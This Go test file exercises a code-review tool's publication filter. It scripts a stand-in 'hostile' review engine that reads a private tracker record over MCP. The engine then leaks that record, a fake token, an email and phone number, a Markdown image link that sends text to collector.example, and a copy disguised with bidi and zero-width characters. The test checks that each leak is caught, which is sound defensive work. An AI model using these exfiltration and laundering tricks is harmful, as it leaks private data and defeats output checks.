package reviewpub_test

import (
	"context"
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/forgectx/forgectx/internal/review/reviewctx"
	"github.com/forgectx/forgectx/internal/review/reviewmcp"
	"github.com/forgectx/forgectx/internal/review/reviewpub"
	"github.com/forgectx/forgectx/internal/review/reviewresult"
	"github.com/forgectx/forgectx/test/verifytest"
)

const (
	engineRun    = "fedcba9876543210fedcba9876543210"
	engineSecret = "glpat-engine-test-secret-0123456789"
	issueText    = "Rollout record: canary the retry change in eu-west before any other region is touched"
)

var enginePolicy = strings.Repeat("9a", 32)

// commitIssueStore commits a store with one issue record whose text is not publishable.
func commitIssueStore(t *testing.T, now time.Time) string {
	t.Helper()
	h, err := reviewctx.NewHandle()
	if err != nil {
		t.Fatal(err)
	}
	c := reviewctx.Content{Descriptor: "issue DEMO-7", State: "open", Text: issueText}
	d, _ := c.Digest()
	exp := now.Add(time.Hour).Format(time.RFC3339)
	all := []string{"descriptor", "state", "text"}
	st := &reviewctx.Store{
		SchemaVersion: reviewctx.StoreSchema, RunID: engineRun, Mode: reviewctx.ModeEnriched, PolicyDigest: enginePolicy,
		PolicySHA: strings.Repeat("1", 40), ReviewedHead: strings.Repeat("2", 40),
		CreatedAt: now.Add(-time.Minute).Format(time.RFC3339), ExpiresAt: exp,
		Sources: []reviewctx.SourceState{{Source: reviewctx.SourceReferences, Completeness: reviewctx.Complete, Records: 1, Reasons: []string{}}},
		Records: []reviewctx.Record{{Handle: h, Source: reviewctx.SourceReferences, Binding: reviewctx.Binding{
			RunID: engineRun, PolicyDigest: enginePolicy, Adapter: "tracker", Tenant: "engineering", CanonicalObject: "tracker/issue/DEMO-7",
			ResourceClass: reviewctx.ResourceIssue, Projections: reviewctx.Projections{Retrieve: all, Model: all, Publish: []string{"descriptor"}, Retain: []string{}},
			Version: "3", Digest: d, ExpiresAt: exp,
		}, Content: c}},
	}
	dir := filepath.Join(t.TempDir(), "ctx")
	if _, err := reviewctx.CommitStore(dir, st); err != nil {
		t.Fatal(err)
	}
	return dir
}

// hostileEngine is a stand-in review engine: it reads the evidence summary and the context
// record through the built-in MCP server, then writes a result whose findings leak what it
// read in several forms.
func hostileEngine(t *testing.T, cs *mcp.ClientSession, resultPath string) {
	t.Helper()
	call := func(name string, args map[string]any) string {
		res, err := cs.CallTool(context.Background(), &mcp.CallToolParams{Name: name, Arguments: args})
		if err != nil || res.IsError {
			t.Fatalf("%s: %v %+v", name, err, res)
		}
		return res.Content[0].(*mcp.TextContent).Text
	}
	call(reviewmcp.ToolEvidence, map[string]any{"action": "summary"})
	var list struct {
		Items []struct{ Handle string } `json:"items"`
	}
	json.Unmarshal([]byte(call(reviewmcp.ToolContextList, map[string]any{"resource_class": "issue"})), &list)
	var rec struct{ Text string }
	json.Unmarshal([]byte(call(reviewmcp.ToolContextGet, map[string]any{"handle": list.Items[0].Handle})), &rec)
	if rec.Text != issueText {
		t.Fatalf("engine read %q", rec.Text)
	}
	words := strings.Fields(rec.Text)
	bidi := strings.Join(words[:6], "\u202e ") + "\u200b " + strings.Join(words[6:], " ")
	findings := []reviewresult.Finding{
		{Severity: "high", Path: "pkg/retry.go", Line: 12, Message: "The retry loop has no upper bound."},
		{Severity: "medium", Path: "pkg/retry.go", Line: 20, Message: "Per the tracker: " + rec.Text[16:70]},
		{Severity: "medium", Path: "pkg/retry.go", Line: 21, Message: "The token " + engineSecret + " is hard-coded."},
		{Severity: "low", Path: "pkg/retry.go", Line: 22, Message: "Ping jane.roe@example.org (+44 20 7946 0958) about it."},
		{Severity: "low", Path: "pkg/retry.go", Line: 23, Message: "See ![status](https://collector.example/p.png?x=" + words[2] + ")."},
		{Severity: "low", Path: "pkg/retry.go", Line: 24, Message: bidi},
	}
	res := reviewresult.Result{SchemaVersion: reviewresult.SchemaVersion, Status: reviewresult.StatusCompleted, OutcomeMessage: "Reviewed 1 file.",
		Coverage: reviewresult.Coverage{Kind: reviewresult.CoverageComplete, FilesTotal: 1, FilesReviewed: 1},
		Findings: findings, Warnings: []string{}, ToolNames: []string{reviewmcp.ToolEvidence, reviewmcp.ToolContextGet}, Metadata: map[string]string{"engine": "stand-in"}}
	b, err := reviewresult.Encode(&res)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(resultPath, b, 0o600); err != nil {
		t.Fatal(err)
	}
}

// TestHostileEngineLeaksAreCaught: the engine reads context through forgectx mcp and leaks
// it (an excerpt, a bidi-laundered copy), a secret, PII and a Markdown image link into its
// findings; each leaking finding is removed and only the clean one is published.
func TestHostileEngineLeaksAreCaught(t *testing.T) {
	now := time.Now().UTC()
	cfg := reviewmcp.Config{Mode: reviewmcp.ModeEnriched, SnapshotDir: verifytest.Write(t, verifytest.Demo), StoreDir: commitIssueStore(t, now),
		RunID: engineRun, PolicyDigest: enginePolicy, UsagePath: filepath.Join(t.TempDir(), "usage.json")}
	inR, inW := io.Pipe()
	outR, outW := io.Pipe()
	done := make(chan error, 1)
	go func() { done <- reviewmcp.Serve(context.Background(), cfg, inR, outW); outW.Close() }()
	cs, err := mcp.NewClient(&mcp.Implementation{Name: "stand-in-engine", Version: "1"}, nil).Connect(context.Background(), &mcp.IOTransport{Reader: outR, Writer: inW}, nil)
	if err != nil {
		t.Fatal(err)
	}
	resultPath := filepath.Join(t.TempDir(), "result.json")
	hostileEngine(t, cs, resultPath)
	cs.Close()
	inW.Close()
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	u, err := reviewmcp.ReadUsage(cfg.UsagePath)
	if err != nil || !u.SummaryCalled() || u.ContextGet != 1 {
		t.Fatalf("usage %+v %v", u, err)
	}

	res, err := reviewresult.Load(resultPath)
	if err != nil {
		t.Fatal(err)
	}
	st, err := reviewctx.LoadStore(cfg.StoreDir, nil)
	if err != nil {
		t.Fatal(err)
	}
	o, err := reviewpub.Project(res, reviewpub.Inputs{Forbidden: reviewpub.ForbiddenFromStore(st), Secrets: []string{engineSecret}})
	if err != nil {
		t.Fatal(err)
	}
	if len(o.Publication.Findings) != 1 || o.Publication.Findings[0].Line != 12 {
		t.Fatalf("published %+v", o.Publication.Findings)
	}
	byFinding := map[string]map[reviewpub.Reason]bool{}
	for _, d := range o.Decisions {
		if byFinding[d.Path] == nil {
			byFinding[d.Path] = map[reviewpub.Reason]bool{}
		}
		byFinding[d.Path][d.Reason] = true
	}
	for path, want := range map[string]reviewpub.Reason{
		"$.findings[1].message": reviewpub.ReasonForbiddenContext,
		"$.findings[2].message": reviewpub.ReasonSecret,
		"$.findings[3].message": reviewpub.ReasonPII,
		"$.findings[4].message": reviewpub.ReasonMarkdownDestination,
		"$.findings[5].message": reviewpub.ReasonForbiddenContext,
	} {
		if !byFinding[path][want] {
			t.Errorf("%s: reasons %v, want %s", path, byFinding[path], want)
		}
	}
	if !byFinding["$.findings[5].message"][reviewpub.ReasonLaundering] {
		t.Error("the bidi-laundered copy was not flagged as laundering")
	}
	if o.Decision != reviewpub.DecisionPublicationFiltered || o.Signal.FindingsOmitted != 5 || o.Publication.Status != reviewresult.StatusCompletedWithErrors {
		t.Errorf("decision %s signal %+v", o.Decision, o.Signal)
	}
	pub, _ := reviewresult.Encode(o.Private)
	for _, leak := range []string{engineSecret, "jane.roe", "collector.example", issueText[16:40]} {
		if strings.Contains(string(pub), leak) || strings.Contains(o.Signal.Marker(), leak) {
			t.Errorf("retained projection or marker contains %q", leak)
		}
	}
}
